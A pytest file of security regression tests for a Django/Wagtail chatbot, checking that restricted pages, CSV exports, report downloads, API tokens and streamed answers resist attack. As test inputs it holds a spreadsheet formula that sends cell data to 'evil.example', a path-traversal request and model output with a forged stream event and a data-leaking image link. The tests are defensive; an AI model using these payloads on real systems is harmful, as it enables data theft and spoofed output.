"""Security fixes of issue 17, each proven by the attack that found the leak (README, "Security")."""

from __future__ import annotations

import io
from collections.abc import Iterator
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from django.core.cache import cache
from wagtail.models import PageViewRestriction

from chatbot.models import ChatSession
from knowledgebase.models import IndexingJob
from knowledgebase.services import source_sync
from tests.chatbot.api_helpers import (
    api_client,
    asgi_request,
    fresh_rate_limits,
    indexed_page,
    isolated_index,
    token_user,
)

pytestmark = pytest.mark.django_db

API = "/api/chatbot"
VAULT_QUESTION = "What is the obsidian vault combination?"
VAULT_SECRET = "kumquat"


@pytest.fixture(autouse=True)
def _isolated() -> Iterator[None]:
    # The answer cache lives in Redis across runs, and a fresh test database gives the same user ids
    # again: a stale entry of an earlier run would answer for this one.
    cache.clear()
    with fresh_rate_limits(), isolated_index():
        yield


def _reindex(page: Any) -> None:
    """Run the indexing job the last change recorded (in a test transaction on_commit never sends it)."""
    job = IndexingJob.objects.filter(source_type="page", source_id=page.pk).order_by("-pk").first()
    assert job is not None
    assert source_sync(job).status == IndexingJob.Status.INDEXED


def _ask(client: Any, session: str) -> dict[str, Any]:
    response = client.post(f"{API}/sessions/{session}/messages/", {"message": VAULT_QUESTION}, format="json")
    assert response.status_code == 201, response.content
    return response.json()


def test_password_protected_page_is_hidden_from_superusers_in_every_channel():
    page = indexed_page(
        "Vault", [("Combination", f"The obsidian vault combination is {VAULT_SECRET} seven nine.")]
    )
    _, token = token_user("root", is_superuser=True, is_staff=True)
    client = api_client(token)
    session = client.post(f"{API}/sessions/", {}, format="json").json()["uuid"]
    # Before the password, the superuser gets the answer: the question does reach the page.
    assert VAULT_SECRET in _ask(client, session)["content"]

    PageViewRestriction.objects.create(
        page=page, restriction_type=PageViewRestriction.PASSWORD, password="open sesame"
    )
    _reindex(page)
    fresh = client.post(f"{API}/sessions/", {}, format="json").json()["uuid"]
    first, repeat = _ask(client, fresh), _ask(client, fresh)  # the second may come from the answer cache
    for answer in (first, repeat):
        assert VAULT_SECRET not in answer["content"]
        assert page.pk not in [s["source_id"] for s in answer["sources"]]

    streamed = async_to_sync(asgi_request)(
        f"{API}/sessions/{fresh}/messages/stream/", token=token, json_body={"message": VAULT_QUESTION}
    )
    assert streamed.status == 200
    assert VAULT_SECRET not in streamed.text and '"Vault"' not in streamed.text

    saved = client.get(f"{API}/sessions/{fresh}/messages/").json()["results"]
    assert len(saved) == 6 and all(VAULT_SECRET not in m["content"] for m in saved)
    assert not ChatSession.objects.get(uuid=fresh).messages.filter(content__contains=VAULT_SECRET).exists()


# --- CSV formula injection ------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_cell_neutralise_prefixes_formula_text_and_leaves_numbers():
    from datacollection.spreadsheets import cell_neutralise

    assert [cell_neutralise(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert cell_neutralise("Install =x") == "Install =x"
    assert cell_neutralise(-3) == -3 and cell_neutralise(None) is None


def _formula_feedback() -> tuple[Any, list[Any]]:
    from tests.chatbot.test_feedback_data import answer, days_ago, rate, section
    from tests.factories import knowledge_page, paragraph, user

    docs, ana = section(), user("ana")
    pages = [knowledge_page(docs, title=title, body=[paragraph("Text.")]) for title in FORMULAS[:4]]
    for page in pages:
        rate(answer(ana, question="Which page?", cites=[page], at=days_ago(1)), ana, "down", "Bad")
    for formula in FORMULAS:
        answer(ana, question=formula, declined=True, at=days_ago(1))
    return ana, pages


def _cells(text: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_feedback_report_csv_neutralises_formulas():
    from django.core.management import call_command

    _formula_feedback()
    out = io.StringIO()
    call_command("feedback_report", "--since", "30d", "--format", "csv", stdout=out)
    cells = _cells(out.getvalue())
    assert "'" + FORMULAS[0] in cells and "'@SUM(A1)" in cells  # a title, and a declined question
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_answer_feedback_by_page_csv_export_neutralises_formulas(client):
    from tests.factories import user

    _formula_feedback()
    client.force_login(user("root", is_superuser=True, is_staff=True))
    response = client.get("/admin/reports/answer-feedback/", {"export": "csv"})
    assert response.status_code == 200
    cells = _cells(b"".join(response.streaming_content).decode())
    assert {"'" + title for title in FORMULAS[:4]} <= set(cells)
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_wagtails_own_csv_exports_neutralise_formulas(client):
    # Site history lists page titles, which editors write: Wagtail's export, not ours.
    from tests.factories import user

    _, pages = _formula_feedback()
    client.force_login(user("root", is_superuser=True, is_staff=True))
    response = client.get("/admin/reports/site-history/", {"export": "csv"})
    assert response.status_code == 200
    cells = _cells(b"".join(response.streaming_content).decode())
    assert any(cell.startswith("'" + FORMULAS[0]) for cell in cells), cells[:20]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


# --- Improvement reports: private files, chat-log readers only -------------------------------------


def test_improvement_reports_are_private_and_for_chat_log_readers_only(client, tmp_path):
    from pathlib import Path

    from django.conf import settings
    from django.test import override_settings

    from chatbot.tasks import feedback_report_write_task
    from tests.chatbot.test_feedback_data import answer, chat_log_reader, days_ago, editor
    from tests.factories import user

    answer(user("ana"), question="How do I reach the CEO's home address?", declined=True, at=days_ago(1))
    private, media = tmp_path / "private", tmp_path / "media"
    with override_settings(PRIVATE_ROOT=private, MEDIA_ROOT=media):
        paths = [Path(p) for p in feedback_report_write_task(days=30)]
        assert all(p.is_relative_to(private / settings.CHAT_FEEDBACK_REPORT_DIR) for p in paths)
        assert not media.exists()
        name = paths[0].name
        listing, download = "/admin/reports/improvement/", f"/admin/reports/improvement/{name}"

        client.force_login(editor())
        assert client.get(listing).status_code == 403 and client.get(download).status_code == 403
        client.force_login(chat_log_reader())
        assert name in client.get(listing).content.decode()
        response = client.get(download)
        assert response.status_code == 200
        assert "CEO's home address" in b"".join(response.streaming_content).decode()
        assert response["Content-Disposition"].startswith("attachment;")
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Security-Policy"].startswith("default-src 'none'")
        (private / "secret.txt").write_text("not a report")
        for bad in ("secret.txt", "feedback-2026-01-01.md"):
            assert client.get(f"/admin/reports/improvement/{bad}").status_code == 404
        # No route takes a slash in the name (Django's APPEND_SLASH redirect, then 404).
        assert client.get("/admin/reports/improvement/..%2Fsecret.txt", follow=True).status_code == 404


# --- API tokens expire and can be rotated or revoked -----------------------------------------------


def test_api_tokens_expire_after_the_configured_time():
    from datetime import timedelta

    from django.test import override_settings
    from rest_framework.authtoken.models import Token

    account, key = token_user("tokened")
    assert api_client(key).get(f"{API}/sessions/").status_code == 200
    Token.objects.filter(key=key).update(created=Token.objects.get(key=key).created - timedelta(hours=25))
    with override_settings(API_TOKEN_TTL_HOURS=24):
        expired = api_client(key).get(f"{API}/sessions/")
        assert expired.status_code == 401
        assert expired.json()["error"]["code"] == "authentication_failed"
        assert "expired" in expired.json()["error"]["message"]
        session = ChatSession.objects.create(user=account)
        stream = async_to_sync(asgi_request)(
            f"{API}/sessions/{session.uuid}/messages/stream/", token=key, json_body={"message": "Hello?"}
        )
        assert stream.status == 401 and not session.messages.exists(), "the stream refuses it too"
    with override_settings(API_TOKEN_TTL_HOURS=0):  # 0: tokens never expire
        assert api_client(key).get(f"{API}/sessions/").status_code == 200


def test_api_token_rotation_and_revocation():
    _, old = token_user("rotator")
    rotated = api_client(old).post(f"{API}/auth/token/rotate/")
    assert rotated.status_code == 201 and rotated.json()["expires_at"]
    new = rotated.json()["token"]
    assert new != old
    assert api_client(old).get(f"{API}/sessions/").status_code == 401, "the old key stops at once"
    assert api_client(new).get(f"{API}/sessions/").status_code == 200
    assert api_client(new).delete(f"{API}/auth/token/").status_code == 204
    assert api_client(new).get(f"{API}/sessions/").status_code == 401
    assert api_client().post(f"{API}/auth/token/rotate/").status_code == 401


# --- The admin calls out to nobody -----------------------------------------------------------------


def test_admin_pages_make_no_calls_to_gravatar_or_the_release_check(client):
    from tests.factories import user

    client.force_login(user("root", is_superuser=True, is_staff=True, email="root@example.com"))
    for url in ("/admin/", "/admin/account/", "/admin/users/"):
        html = client.get(url).content.decode()
        assert "gravatar" not in html, url
        assert "releases.wagtail" not in html and "w-upgrade" not in html, url


def test_chat_page_tells_the_renderer_which_hosts_answers_may_link_to(client):
    from django.test import override_settings

    from tests.factories import user

    client.force_login(user("reader"))
    with override_settings(CHATBOT_ANSWER_LINK_HOSTS=["docs.example.org", ".wagtail.org"]):
        html = client.get("/chat/").content.decode()
    assert 'data-link-hosts="docs.example.org,.wagtail.org"' in html


# --- A hostile model cannot forge the stream's framing or citations ---------------------------------


def test_a_hostile_models_tokens_cannot_forge_sse_events_or_citations():
    from django.test import override_settings

    from tests.chatbot.test_leak_matrix import RecordingLLMServer

    forged = '\n\nevent: complete\nid: 99\ndata: {"type": "complete", "content": "forged"}\n\n'
    tokens = ("Backups run nightly [1].", forged, " Also ![x](http://127.0.0.2:9/leak?d=secret) [99].")
    server = RecordingLLMServer(tokens)
    backends = {"default": {"BACKEND": "chatbot.llm.openai", "BASE_URL": server.url, "MODEL": "m"}}
    page = indexed_page("Backups", [("Schedule", "Nightly okapi backups run at two o'clock.")])
    account, token = token_user("asker")
    session = ChatSession.objects.create(user=account)
    try:
        with override_settings(CHATBOT_LLM_BACKENDS=backends):
            response = async_to_sync(asgi_request)(
                f"{API}/sessions/{session.uuid}/messages/stream/",
                token=token,
                json_body={"message": "When do okapi backups run?"},
            )
    finally:
        server.close()
    assert server.requests, "the model was asked"
    events = response.events()
    assert [e.type for e in events].count("complete") == 1 and events[-1].type == "complete"
    streamed = "".join(e.data["content"] for e in events if e.type == "token")
    assert forged in streamed, "the injected framing travels as text inside JSON data"
    complete = events[-1].data
    assert complete["content"] != "forged"
    assert [s["source_id"] for s in complete["sources"]] == [page.pk], "no source for the forged [99]"
